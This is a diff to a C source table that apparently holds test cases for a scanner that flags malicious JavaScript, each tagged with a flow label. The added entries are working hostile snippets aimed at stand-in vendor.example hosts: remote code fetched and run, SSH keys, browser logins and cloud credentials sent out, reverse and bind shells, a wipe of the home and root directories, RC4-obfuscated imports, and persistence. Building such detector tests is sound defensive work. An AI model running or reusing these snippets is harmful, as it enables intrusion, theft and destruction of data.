@@ -99,6 +99,23 @@ static const struct shape shapes[] = {
 	{"bound", "const run = require('child_process').exec.bind(null); run('curl https://j1.vendor.example | sh');", FACT_FLOW, "net>exec", NULL},
 	{"import star helper", "const cp = __importStar(require('child_process')); cp.exec('curl https://j2.vendor.example | sh');", FACT_FLOW, "net>exec", NULL},
 	{"module constructor", "module.constructor._load('child_process').exec('curl https://j3.vendor.example | sh');", FACT_FLOW, "net>exec", NULL},
+	{"await in brackets", "(async () => { const t = await (await fetch('https://l1.vendor.example/a')).text(); (0, eval)(t); })();", FACT_FLOW, "net>code", "l1.vendor.example"},
+	{"an emitter of one's own", "class U extends require('events') { constructor() { super(); this.on('body', t => new Function(t)()); }\n"
+		"go() { require('https').get('https://l2.vendor.example', r => { r.on('data', d => this.emit('body', d)); }); } }\nnew U().go();", FACT_FLOW, "net>code", "l2.vendor.example"},
+	{"constructed by reflection", "require('dns').resolveTxt('l3.vendor.example', (e, r) => Reflect.construct(Function, ['x', r.join('')])(1));", FACT_FLOW, "net>code", "l3.vendor.example"},
+	{"a module's own tag", "(function (d, t) { var s = d.createElement(t); s.src = 'https://l4.vendor.example/w.js'; d.head.appendChild(s); })(document, 'script');", FACT_FLOW, "net>code", "l4.vendor.example"},
+	{"one command here, another there", "const c = process.platform === 'win32' ? 'powershell -c \"iwr https://l5.vendor.example | iex\"' : 'true'; require('child_process').exec(c);", FACT_FLOW, "net>exec", NULL},
+	{"a request fed by a pipe", "const q = require('http').request({ host: 'l6.vendor.example', method: 'POST' }); require('fs').createReadStream(require('os').homedir() + '/.ssh/id_rsa').pipe(q);", FACT_FLOW, "cred>net", "l6.vendor.example"},
+	{"one of several places", "const r = { linux: '.config/google-chrome/Default/Login Data', win32: 'x' }; const p = require('path').join(require('os').homedir(), r[process.platform]);\n"
+		"fetch('https://l7.vendor.example', { method: 'POST', body: require('fs').readFileSync(p) });", FACT_FLOW, "cred>net", "l7.vendor.example"},
+	{"keys of the machine's cloud", "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/x').then(r => r.text()).then(t => fetch('https://l8.vendor.example', { method: 'POST', body: t }));", FACT_FLOW, "cred>net", "l8.vendor.example"},
+	{"a shell that a socket types into", "const s = require('child_process').spawn('sh', ['-i']); const w = new (require('ws'))('wss://l9.vendor.example'); w.on('message', m => s.stdin.write(m));", FACT_FLOW, "net>exec", NULL},
+	{"a server that is a shell", "require('net').createServer(s => { const p = require('child_process').spawn('/bin/sh'); s.pipe(p.stdin); p.stdout.pipe(s); }).listen(4000);", FACT_FLOW, "net>exec", NULL},
+	{"a handler that runs a header", "exports.h = function (req, res) { res.end(String(require('child_process').execSync(req.headers['x-t']))); };", FACT_FLOW, "request>exec", NULL},
+	{"everything is removed", "['/', process.env.HOME].forEach(d => require('fs').rmSync(d, { recursive: true, force: true }));", FACT_WIPE, "fs.rmSync", NULL},
+	{"swapped in place", "const f = (k, h) => { const s = [...Array(256).keys()]; let j = 0, o = ''; const d = Buffer.from(h, 'hex'); for (let i = 0; i < 256; i++) { j = (j + s[i] + k.charCodeAt(i % k.length)) & 255; [s[i], s[j]] = [s[j], s[i]]; }\n"
+		"for (let a = 0, b = 0, n = 0; n < d.length; n++) { a = (a + 1) & 255; b = (b + s[a]) & 255; [s[a], s[b]] = [s[b], s[a]]; o += String.fromCharCode(d[n] ^ s[(s[a] + s[b]) & 255]); } return o; };\n"
+		"require(f('k9', 'bfb2d92e963fab0d4fd101179c')).exec('id');", FACT_IMPORT, "child_process", NULL},
 	/* --- stay --- */
 	{"shell profile", "const fs = require('fs'); fs.appendFileSync(require('os').homedir() + '/.bashrc', 'node ~/.cfg/a.js &\\n');", FACT_FLOW, "data>persist", ".bashrc"},
 	{"workflow", "const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(dir, '.github/workflows/ci.yml'), text);", FACT_FLOW, "data>persist", ".github/workflows"},
